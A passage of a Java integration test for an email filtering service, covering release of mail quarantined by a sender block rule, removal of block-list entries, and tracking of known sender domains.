            awaitDownstream(m -> m.dataAsString().contains("per-user-2@blocked.example"), Duration.ofSeconds(30));

            HttpResponse<String> released = api("POST", "/api/v1/quarantine/release", "{\"finding\": \"SENDER_BLOCKED\"}");
            assertThat(released.statusCode()).as(released.body()).isEqualTo(200);
            assertThat(json.readTree(released.body()).get("released")).extracting(com.fasterxml.jackson.databind.JsonNode::asText)
                    .contains(q.id());
            awaitDownstream(m -> m.dataAsString().contains("per-user-1@blocked.example"), Duration.ofSeconds(30));
        } finally {
            assertThat(api("DELETE", "/api/v1/lists/entries/" + entry, null).statusCode()).isEqualTo(200);
        }
        assertThat(api("DELETE", "/api/v1/lists/entries/" + entry, null).statusCode()).isEqualTo(404);
    }

    @Test
    void deliveredInboundMailMakesItsSenderDomainAKnownContact() throws Exception {
        assertThat(smtplib("sato@example.co.jp", plainJapanese("contact-1"))).isEqualTo("SENT");
        awaitDownstream(m -> m.dataAsString().contains("contact-1"), Duration.ofSeconds(30));
        assertThat(senderHistory.lastContact("partner.example")).hasValueSatisfying(c ->
                assertThat(c.count()).isPositive());
        assertThat(senderHistory.lastContact("blocked.example")).as("quarantined mail makes nobody known").isEmpty();
    }
}
